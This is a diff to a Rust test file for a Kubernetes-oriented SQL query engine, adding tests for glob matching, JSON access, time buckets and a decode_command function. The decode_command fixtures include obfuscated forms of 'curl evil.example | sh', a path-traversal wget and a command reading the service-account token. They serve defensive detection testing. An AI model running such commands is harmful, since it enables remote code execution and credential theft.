@@ -1,5 +1,6 @@
 //! The SQL functions, over every type that strings can have.
 
+use datafusion::arrow::array::AsArray;
 use podtrail_query::{Scope, functions};
 
 use crate::{column, session};
@@ -52,6 +53,32 @@ async fn functions_say_what_kubernetes_means() {
         ("is_controller(NULL)", "null"),
         ("writes_spec('patch', '{\"metadata\": {}}', '')", "false"),
         ("writes_spec('patch', '', '')", "true"),
+        ("glob('kube-system', 'kube-*')", "true"),
+        ("glob('kube-system', '*')", "true"),
+        ("glob('kube-system', '*-sys*m')", "true"),
+        ("glob('kube-system', 'kube')", "false"),
+        ("glob('a_c', 'a_c')", "true"),
+        ("glob('abc', 'a_c')", "false"),
+        ("glob('abc', '%')", "false"),
+        ("glob(NULL, '*')", "null"),
+        (
+            "decode_command('echo Y3VybCBldmlsLmV4YW1wbGUgfCBzaA== | base64 -d | sh')",
+            "curl evil.example | sh",
+        ),
+        ("decode_command('powershell -enc YwB1AHIAbAAgAGUAdgBpAGwA')", "curl evil"),
+        ("decode_command('X=Y3VybCBldmlsLmV4YW1wbGUgfCBzaA')", "curl evil.example | sh"),
+        ("decode_command('xxd -r -p <<< 6375726c206576696c2e6578616d706c65')", "curl evil.example"),
+        (r"decode_command('printf \x63\x75\x72\x6c')", "curl"),
+        ("decode_command('wget host/%2e%2e/%65tc')", "host/../etc"),
+        // Base64 of Base64.
+        ("decode_command('WTNWeWJDQmxkbWxzTG1WNFlXMXdiR1U9')", "curl evil.example"),
+        ("decode_command('kubectl get pods --namespace=kube-system-monitoring')", "null"),
+        ("decode_command('cat /var/run/secrets/kubernetes.io/serviceaccount/token')", "null"),
+        (
+            "decode_command('docker.io/library/nginx@sha256:0d17b565c37bcbd895e9d92315a05c1c3c9a29f762b011a10c54a66cd53c9b31')",
+            "null",
+        ),
+        ("decode_command('')", "null"),
     ] {
         for text in ["VARCHAR", "Utf8", "LargeUtf8", "Utf8View"] {
             // The first argument in each of the types, as a constant and as a column.
@@ -117,6 +144,75 @@ async fn the_pod_security_level_is_that_of_a_version() {
     }
     let refused = session.sql(&format!("SELECT pod_security_level({both}, 'two')")).await.unwrap();
     assert!(refused.collect().await.is_err());
+}
+
+#[tokio::test]
+async fn a_glob_of_a_constant_is_what_the_engine_can_prune_by() {
+    let session = session(&[], Scope::default()).await;
+    let plan =
+        |pattern: &str| format!("EXPLAIN SELECT name FROM stages WHERE glob(name, '{pattern}')");
+    for (pattern, expected) in [("web", "name = "), ("web-*", "name LIKE ")] {
+        let batches = session.sql(&plan(pattern)).await.unwrap().collect().await.unwrap();
+        let text = batches[0].column(1).as_string::<i32>().value(0).to_owned();
+        assert!(text.contains(expected) && !text.contains("glob"), "{text}");
+    }
+}
+
+#[tokio::test]
+async fn bodies_are_read_as_json() {
+    let session = session(&[], Scope::default()).await;
+    let body = r#"'{"spec": {"replicas": 2, "containers": [{"image": "nginx"}], "paused": true}}'"#;
+    for (expression, expected) in [
+        ("b -> 'spec' -> 'containers' -> 0 ->> 'image'", "nginx"),
+        ("b -> 'spec' ->> 'replicas'", "2"),
+        ("json_get_str(b, 'spec', 'containers', 0, 'image')", "nginx"),
+        ("CAST(json_get_int(b, 'spec', 'replicas') + 1 AS VARCHAR)", "3"),
+        ("CAST(json_get_bool(b, 'spec', 'paused') AS VARCHAR)", "true"),
+        ("CAST(json_length(b, 'spec') AS VARCHAR)", "3"),
+        ("CAST(b ? 'spec' AS VARCHAR)", "true"),
+        ("b ->> 'status'", ""),
+    ] {
+        let sql =
+            format!("SELECT arrow_cast({expression}, 'Utf8') FROM (VALUES ({body})) AS t (b)");
+        assert_eq!(column(&session, &sql).await, [expected], "{expression}");
+    }
+    let sql =
+        format!("SELECT 1 FROM (VALUES ({body})) AS t (b) WHERE b -> 'spec' ->> 'replicas' = '2'");
+    assert_eq!(session.sql(&sql).await.unwrap().count().await.unwrap(), 1);
+}
+
+#[tokio::test]
+async fn time_falls_into_buckets() {
+    let session = session(&[], Scope::default()).await;
+    let sql = "SELECT CAST(time_bucket(INTERVAL '15 minutes', TIMESTAMP '2026-11-24T10:29:59') AS VARCHAR)";
+    assert_eq!(column(&session, sql).await, ["2026-11-24T10:15:00"]);
+}
+
+#[tokio::test]
+async fn every_function_that_is_ours_says_what_it_gives() {
+    let session = session(&[], Scope::default()).await;
+    let ours: Vec<_> = session.functions().into_iter().filter(|f| f.is_ours).collect();
+    for name in [
+        "cidr_contains",
+        "decode_command",
+        "diff",
+        "glob",
+        "image_part",
+        "is_controller",
+        "is_private_ip",
+        "json_get",
+        "json_get_str",
+        "lineage",
+        "path_within",
+        "pod_security_level",
+        "sessions",
+        "time_bucket",
+        "timeline",
+    ] {
+        let function = ours.iter().find(|function| function.name == name).unwrap();
+        assert!(function.syntax.starts_with(name), "{function:?}");
+        assert!(!function.description.is_empty(), "{function:?}");
+    }
 }
 
 #[test]
